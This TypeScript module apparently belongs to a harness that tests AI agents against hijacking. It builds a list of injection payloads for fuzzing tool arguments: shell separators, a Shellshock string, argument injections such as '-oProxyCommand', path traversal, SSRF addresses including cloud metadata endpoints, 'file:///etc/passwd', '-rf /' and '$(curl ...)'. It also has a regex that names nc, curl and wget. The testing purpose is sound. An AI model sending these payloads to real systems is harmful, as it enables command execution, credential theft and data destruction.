/** What an attacker would write into a name, a number or an address: from a corpus, and a set of its own, all of them armed. */
import { readHostileTexts } from '../agent-hijack/hostile-texts.js';

export interface Bait {
  /** A program that leaves a mark when anything starts it. */
  readonly program: string;
  /** Base address of a server that nobody configured. */
  readonly url: string;
}

/** Programs that public payloads start; the bait takes their place, so that success leaves a mark. */
const STARTED =
  /(?<![\w.])(?:\/(?:usr\/)?s?bin\/)?(?:id|whoami|uname|ls|cat|sleep|ping|nslookup|curl|wget|nc|netcat|reboot|ifconfig|dir|touch)(?![\w.])/g;
const LOCAL_ADDRESS = /(?:127\.0\.0\.1|localhost|\[::1?\]|0\.0\.0\.0)(?::\d+)?/g;

/** Each text as it is and armed; without a corpus only the own ones. */
export async function readPayloads(corpus: string | null, bait: Bait): Promise<readonly string[]> {
  const texts = await readHostileTexts(corpus);
  const host = new URL(bait.url).host;
  const armed = texts.flatMap((text) => [
    text,
    text.replaceAll(STARTED, bait.program),
    text.replaceAll(LOCAL_ADDRESS, host),
  ]);
  return [...new Set([...ownPayloads(bait), ...armed])];
}

function ownPayloads({ program, url }: Bait): readonly string[] {
  const { port } = new URL(url);
  return [
    ...[`;P`, `| P`, `|| P`, `& P`, `&& P`, `\nP`, `\r\nP\r\n`, '$(P)', '`P`', '<(P)', '${IFS}P', '";P;"', "';P;'", '\u0000P']
      .flatMap((shape) => [shape, `v1.2.3${shape}`, `checkout ${shape}`]),
    'P', '{P}', '() { :;}; P', '!P', '${P}', '{{P}}', '<%= P %>', '=P', '@P', 'x\tP', 'x P', "$'\\x3bP'",
    '-c P', '--exec=P', '-oProxyCommand=P', '--checkpoint-action=exec=P', '-e', '--', '-', '--help', '--kubeconfig=P',
    '-rf /', '‐‐exec=P', '−P', '--version={version}', '{version}', '$service', 'v1.2.3\n--exec=P', 'v1.2.3 --exec=P',
    '../../../..P', '..%2f..%2fP', 'restart-checkout/../../P', 'restart-checkout?x=P', 'restart-checkout#P', '%00', '.', '..', '/',
    `${url}/hit`, `http://127.0.0.1:${port}/hit`, `http://localhost:${port}/hit`, `http://2130706433:${port}/hit`, `http://[::1]:${port}/hit`,
    `http://[::ffff:127.0.0.1]:${port}/hit`, `http://0x7f.1:${port}/hit`, `//127.0.0.1:${port}/hit`, `$(curl ${url}/hit)`, `;curl ${url}/hit`,
    `http://checkout@127.0.0.1:${port}/hit`, `gopher://127.0.0.1:${port}/_x`, `x\r\nHost: 127.0.0.1:${port}\r\n\r\nGET /hit`,
    'http://169.254.169.254/latest/meta-data/', 'http://2852039166/', 'http://0xA9FEA9FE/', 'http://[::ffff:a9fe:a9fe]/',
    'http://[fe80::1]/', 'http://[fd00:ec2::254]/', 'http://metadata.google.internal/', 'http://10.0.0.1/', 'http://192.168.0.1/',
    'http://172.16.0.1/', 'http://0/', 'http://[::]/', 'file:///etc/passwd', 'data:text/plain,P', 'unix:/var/run/docker.sock',
    '1e999', '-1', '0', '99999999999999999999', 'NaN', '0x10', '1;P', 'true', 'null', '__proto__', 'constructor', 'toString',
  ].map((text) => text.replaceAll(/(?<![\w.])P(?!\w)/g, program)); // prettier-ignore
}
